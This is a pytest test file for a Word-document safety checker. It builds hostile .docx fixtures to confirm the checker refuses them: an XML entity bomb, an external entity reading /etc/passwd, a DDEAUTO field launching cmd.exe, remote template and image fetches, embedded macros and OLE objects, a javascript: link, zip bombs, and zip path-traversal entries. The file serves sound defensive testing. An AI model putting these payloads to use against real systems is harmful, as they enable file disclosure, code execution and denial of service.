"""Files made to do harm are refused before anything in them is used, in little time and memory."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from contextlib import suppress

import pytest
from lxml import etree

from reportgen.errors import ProjectError
from reportgen.wordcheck import GATES, RULES, UnsafeDocument, archive, check, open_safely
from tests.wordcheck.word_file import (
    BOOK,
    CELLS,
    DOCUMENT,
    NAMESPACES,
    OFFICE,
    RELATIONS,
    SETTINGS,
    TYPES,
    Parts,
    Spoil,
    add,
    both,
    bytes_of,
    good,
    pack,
    swap,
    text,
    workbook,
)

MARK = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
FIELD = f'<w:p>{MARK.format("begin")}{{}}{MARK.format("separate")}<w:r><w:t>1</w:t></w:r>{MARK.format("end")}</w:p>'


def external(kind: str, target: str, part: str = RELATIONS) -> Spoil:
    return add(part, ".", f'<Relationship Id="rId66" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>')


def inside(kind: str, name: str, content_type: str, data: bytes = b"\xd0\xcf\x11\xe0") -> Spoil:
    return both(
        add(RELATIONS, ".", f'<Relationship Id="rId66" Type="{OFFICE}/{kind}" Target="{name}"/>'),
        bytes_of(f"word/{name}", data),
        add(TYPES, ".", f'<Override PartName="/word/{name}" ContentType="{content_type}"/>'),
    )


def attached_template(parts: Parts) -> None:
    parts["word/_rels/settings.xml.rels"] = f'<Relationships xmlns="{NAMESPACES["rel"]}"/>'.encode()
    external("attachedTemplate", "https://example.org/evil.dotm", "word/_rels/settings.xml.rels")(parts)
    add(SETTINGS, ".", '<w:attachedTemplate r:id="rId66"/>')(parts)


def field_in_pieces(code: str) -> str:
    return FIELD.format("".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code.partition("AU") if piece))


SIMPLE = '<w:p><w:fldSimple w:instr=" INCLUDETEXT c:\\a.docx "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
MACROS = "ms-word.document.macroEnabled"
ENTITIES = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE w [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
HEAD = "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"


def in_utf_16(parts: Parts) -> None:
    # The declaration of a type is hidden from whoever searches the bytes for it.
    parts[DOCUMENT] = parts[DOCUMENT].decode().replace("encoding='UTF-8'", "encoding='UTF-16'").replace("?>", f"?>{OUTSIDE}", 1).encode("utf-16")


HOSTILE: tuple[tuple[str, str, Spoil], ...] = (
    ("S05", "entities grow", swap(DOCUMENT, HEAD, HEAD + ENTITIES)),
    ("S05", "an entity reads a file", swap(DOCUMENT, HEAD, HEAD + OUTSIDE)),
    ("S05", "a part without .xml in its name has a document type", bytes_of("word/odd.bin", b"\xef\xbb\xbf<?xml version='1.0'?><!DOCTYPE a><a/>")),
    ("S06", "a part is UTF-16", in_utf_16),
    ("S06", "a part is UTF-7", swap(DOCUMENT, "encoding='UTF-8'", "encoding='UTF-7'")),
    ("S07", "a template is fetched", attached_template),
    ("S07", "a picture is fetched", external("image", "https://example.org/count.png")),
    ("S07", "a shared folder is asked", external("image", "file://///example.org/share/a.png")),
    ("S08", "a document is read in", inside("aFChunk", "chunk.html", "text/html", b"<html/>")),
    ("S08", "an object of another program", inside("oleObject", "embeddings/a.bin", "application/vnd.openxmlformats-officedocument.oleObject")),
    ("S08", "a control", inside("control", "activeX/a.xml", "application/xml", b"<a/>")),
    ("S08", "a package beside the charts", inside("package", "embeddings/setup.exe", "application/octet-stream")),
    ("S08", "a subdocument", external("subDocument", "other.docx")),
    ("S08", "a frame", external("frame", "https://example.org/")),
    ("S09", "macros", inside("vbaProject", "vbaProject.bin", "application/vnd.ms-office.vbaProject")),
    ("S09", "a file for macros under a harmless name", swap(TYPES, "openxmlformats-officedocument.wordprocessingml.document", MACROS)),
    ("S10", "a field starts a program", add(DOCUMENT, "//w:body", field_in_pieces('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))),
    ("S10", "a field reads a file", add(DOCUMENT, "//w:body", SIMPLE)),
    ("S11", "a link runs a script", external("hyperlink", "javascript:alert(1)")),
    ("S12", "a workbook computes", bytes_of(BOOK, workbook(CELLS, "<f>1+1</f>"))),
)


@pytest.mark.parametrize(("rule", "attack", "spoil"), HOSTILE, ids=[f"{rule}-{attack}" for rule, attack, _ in HOSTILE])
def test_an_attack_is_found_by_its_rule(rule: str, attack: str, spoil: Spoil) -> None:
    parts = good()
    spoil(parts)
    assert rule in {breach.rule.id for breach in check(pack(parts), "a.docx")}


@pytest.mark.parametrize(("rule", "attack", "spoil"), HOSTILE, ids=[f"{rule}-{attack}" for rule, attack, _ in HOSTILE])
def test_a_template_that_attacks_is_not_opened(rule: str, attack: str, spoil: Spoil) -> None:
    parts = good()
    spoil(parts)
    if rule in {"S11", "S12"}:
        assert open_safely(pack(parts), "a.docx").main == DOCUMENT
    else:
        with pytest.raises(UnsafeDocument, match=rule):
            open_safely(pack(parts), "a.docx")


def test_a_good_file_is_opened_with_all_its_parts() -> None:
    assert dict(open_safely(pack(good()), "a.docx").parts) == good()


def archived(write: Callable[[zipfile.ZipFile], None]) -> bytes:
    out = io.BytesIO(pack(good()))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as made:
        write(made)
    return out.getvalue()


def many(made: zipfile.ZipFile) -> None:
    for index in range(archive.MAX_ENTRIES):
        made.writestr(f"word/a{index}.xml", b"")


def bomb(made: zipfile.ZipFile) -> None:
    with made.open("word/media/zeros.png", "w", force_zip64=True) as part:
        for _ in range(300):
            part.write(bytes(2**20))


def several_bombs(made: zipfile.ZipFile) -> None:
    for index in range(3):
        made.writestr(f"word/a{index}.bin", bytes(archive.MAX_PART - 1), zipfile.ZIP_STORED)


def twice(made: zipfile.ZipFile) -> None:
    made.writestr("WORD/Document.xml", b"<a/>")


def encrypted(made: zipfile.ZipFile) -> None:
    made.writestr("word/secret.xml", b"<a/>")
    made.infolist()[-1].flag_bits |= 0x1


ARCHIVES: tuple[tuple[str, str, Callable[[zipfile.ZipFile], None]], ...] = (
    ("S01", "too many parts", many),
    ("S01", "a part of 300 MB in 300 KB", bomb),
    ("S01", "too much in all", several_bombs),
    ("S01", "packed too far", lambda made: made.writestr("word/a.xml", b" " * 20 * 2**20)),
    ("S02", "a way out", lambda made: made.writestr("../../home/user/.profile", b"")),
    ("S02", "a way out for Windows", lambda made: made.writestr("word\\..\\..\\a.exe", b"")),
    ("S02", "a way out in disguise", lambda made: made.writestr("word/%2e%2e/%2e%2e/a", b"")),
    ("S02", "a place of its own", lambda made: made.writestr("/etc/cron.d/a", b"")),
    ("S02", "a drive", lambda made: made.writestr("C:/a.exe", b"")),
    ("S03", "one name in two cases", twice),
    ("S04", "a secret", encrypted),
    ("S04", "an unusual packing", lambda made: made.writestr("word/a.xml", b"<a/>" * 99, zipfile.ZIP_LZMA)),
)


@pytest.mark.parametrize(("rule", "attack", "write"), ARCHIVES, ids=[f"{rule}-{attack}" for rule, attack, _ in ARCHIVES])
def test_an_archive_is_refused_by_its_directory(rule: str, attack: str, write: Callable[[zipfile.ZipFile], None]) -> None:
    data = archived(write)
    tracemalloc.start()
    start = time.perf_counter()
    found = check(data, "a.docx")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert {breach.rule.id for breach in found} == {rule}
    assert peak < 8 * 2**20, "something was inflated"
    assert time.perf_counter() - start < 2
    with pytest.raises(UnsafeDocument, match=rule):
        open_safely(data, "a.docx")


def test_one_entry_under_one_name_twice_is_refused() -> None:
    out = io.BytesIO(pack(good()))
    with zipfile.ZipFile(out, "a") as made, pytest.warns(UserWarning, match="Duplicate name"):
        made.writestr(DOCUMENT, b"<a/>")
    assert {breach.rule.id for breach in check(out.getvalue(), "a.docx")} == {"S03"}


def test_a_damaged_part_is_named() -> None:
    data = bytearray(pack(good()))
    with zipfile.ZipFile(io.BytesIO(data)) as made:
        start = made.getinfo(DOCUMENT).header_offset + 200
    data[start : start + 40] = bytes(40)
    (found,) = check(bytes(data), "a.docx")
    assert (found.rule.id, found.finding.place.part) == ("S04", DOCUMENT)


def test_a_part_that_inflates_to_more_than_it_declares_is_damaged() -> None:
    data = bytearray(archived(lambda made: made.writestr("word/a.bin", bytes(10**6))))
    place = data.rindex(b"word/a.bin") - 46  # its entry in the directory: the size stands 24 bytes in
    data[place + 24 : place + 28] = (100).to_bytes(4, "little")
    (found,) = check(bytes(data), "a.docx")
    assert (found.rule.id, found.finding.place.part) == ("S04", "word/a.bin")


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"", "is not a Word file"),
        (b"hello", "is not a Word file"),
        (archive.OLE + bytes(600), "an old .doc file or a Word file with a password"),
        (pack({"a.txt": b"a"}), "is not a Word file"),
        (pack(good())[:5000], "is not a Word file, or is cut off"),
        (workbook(CELLS), "is not a Word file"),
    ],
    ids=["nothing", "text", "password", "zip", "cut off", "workbook"],
)
def test_a_file_that_is_something_else_is_said_to_be(data: bytes, what: str) -> None:
    with pytest.raises(ProjectError, match=what):
        check(data, "a.docx")


def test_every_rule_of_safety_has_an_attack() -> None:
    safety = {rule.id for rule in (*GATES, *RULES) if rule.id.startswith("S")}
    assert safety == {rule for rule, _, _ in (*HOSTILE, *ARCHIVES)}


def test_data_that_begin_with_an_equals_sign_stay_text() -> None:
    parts = good()
    bytes_of(BOOK, workbook(CELLS | {"A2": "=1+1"}))(parts)
    text("//c:strCache/c:pt/c:v", "=1+1", "word/charts/chart90.xml")(parts)
    assert check(pack(parts), "a.docx") == []


def xml_parts() -> list[str]:
    return [name for name in good() if name.endswith((".xml", ".rels"))]


@pytest.mark.parametrize("junk", ["", "x", "-1", "99999999999999999999", "１２", "a b/../c"])
@pytest.mark.parametrize("name", xml_parts())
def test_junk_in_every_attribute_of_a_part_never_stops_the_check(name: str, junk: str) -> None:
    parts = good()
    root = etree.fromstring(parts[name])
    for node in root.iter(etree.Element):
        for attribute in node.attrib:
            node.set(attribute, junk)
    parts[name] = etree.tostring(root)
    with suppress(ProjectError):  # that it is not a Word file
        check(pack(parts), "a.docx")


@pytest.mark.parametrize("name", xml_parts())
def test_a_part_with_nothing_in_it_never_stops_the_check(name: str) -> None:
    root = etree.fromstring(good()[name]).tag
    for data in (b"", b"<a/>", etree.tostring(etree.Element(root))):
        with suppress(ProjectError):
            check(pack(good() | {name: data}), "a.docx")


def test_an_empty_part_is_found() -> None:
    for name in xml_parts():
        assert "W02" in {breach.rule.id for breach in check(pack(good() | {name: b""}), "a.docx")}
